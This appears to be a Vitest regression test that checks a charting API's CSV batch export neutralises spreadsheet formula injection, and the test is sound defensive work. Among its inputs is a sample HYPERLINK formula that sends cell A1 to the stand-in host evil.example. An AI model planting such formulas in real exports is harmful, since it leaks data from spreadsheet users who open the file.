// Defect 5 of issue 22: a batch entry's id (or any cell) starting with =, +, -, @, tab or CR was written into the
// CSV answer as a live spreadsheet formula. Such cells are now neutralised as OWASP recommends (a leading single
// quote, the field quoted).
import { createDefaultEngines } from '@mandala/operations';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, startTestServer } from './helpers';
import type { TestServer } from './helpers';

describe('CSV formula injection in POST /batch/charts (Accept: text/csv)', () => {
  let server: TestServer;
  beforeAll(async () => {
    server = await startTestServer({ engines: createDefaultEngines() });
  });
  afterAll(() => server.close());

  it('writes every id that starts like a formula as quoted text with a leading quote', async () => {
    const { key } = await server.account('business');
    const ids = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
    const birth = { date: '1990-05-15T14:30', timezone: 'Europe/Berlin' };
    const response = await server.request('/batch/charts', {
      method: 'POST',
      headers: { ...bearer(key), 'content-type': 'application/json', accept: 'text/csv' },
      body: JSON.stringify({ charts: ids.map((id) => ({ id, ...birth })) }),
    });
    expect(response.status).toBe(200);
    const text = response.text;
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);
    expect(text).toContain(`\r\n"'+1+1",`);
    expect(text).toContain(`\r\n"'-2+3",`);
    expect(text).toContain(`\r\n"'@SUM(A1:A2)",`);
    expect(text).toContain(`\r\n"'\t=1+1",`);
    expect(text).toContain(`\r\n"'\r=1+1",`);
    // No line (after the header) starts with a formula character outside quotes.
    expect(text.split('\r\n').filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
  });

  it('leaves ordinary ids as they were', async () => {
    const { key } = await server.account('business');
    const response = await server.request('/batch/charts', {
      method: 'POST',
      headers: { ...bearer(key), 'content-type': 'application/json', accept: 'text/csv' },
      body: JSON.stringify({ charts: [{ id: 'ana', date: '1990-05-15T14:30', timezone: 'Europe/Berlin' }] }),
    });
    expect(response.text.split('\r\n')[1]).toMatch(/^ana,1990-05-15T14:30:00,Europe\/Berlin,success,/);
  });
});
